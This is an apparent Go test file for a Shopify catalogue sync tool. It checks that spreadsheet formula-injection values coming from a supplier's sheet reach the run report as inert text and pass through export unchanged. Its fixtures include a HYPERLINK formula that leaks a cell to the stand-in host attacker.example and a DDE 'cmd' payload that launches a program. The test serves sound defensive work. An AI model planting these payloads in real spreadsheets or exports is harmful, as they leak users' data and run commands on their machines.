package sync

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"strings"
	"testing"

	"github.com/shelfsync/shelfsync/sync/shopify/fakeshop"
)

// TestReportCellsAreInert: handles, SKUs and messages from a supplier's
// sheet that a spreadsheet app would run as formulas (=HYPERLINK leaking a
// cell to a web site, =cmd|…, @SUM) reach the run's report with a leading
// ', so "Open report" shows them as text. Export keeps them as they are: it
// must round-trip to Shopify's format.
func TestReportCellsAreInert(t *testing.T) {
	h := newHarness(t, fakeshop.PlanGrow, 50)
	formula := `=HYPERLINK("https://attacker.example/?leak="&A1,"Details")`
	var sheet bytes.Buffer
	cw := csv.NewWriter(&sheet)
	cw.WriteAll([][]string{
		{"Handle", "Title", "Variant SKU", "Variant Price"},
		{"evil-one", "Evil one", formula, "1.00"},
		{"=2+5", "Evil two", "@SUM(A1)", "1.00"},
		{"evil-three", "Evil three", "-1+2", "1.00"},
		{"evil-four", "Evil four", "+cmd|' /C calc'!A0", "1.00"},
	})
	_, res := h.sync(t, readCSV(t, sheet.String()), h.opts())
	data, err := os.ReadFile(res.ReportPath)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, r := range rows[1:] {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("report cell a spreadsheet would run: %q", c)
			}
			seen = seen || c == "'"+formula
		}
	}
	if !seen {
		t.Errorf("the SKU is not in the report as text:\n%s", data)
	}
	var export bytes.Buffer
	if err := h.eng.Export(context.Background(), h.st, &export); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(export.String(), `"=HYPERLINK(""https://attacker.example`) || strings.Contains(export.String(), "'=") {
		t.Errorf("export changed the cells:\n%s", export.String())
	}
}
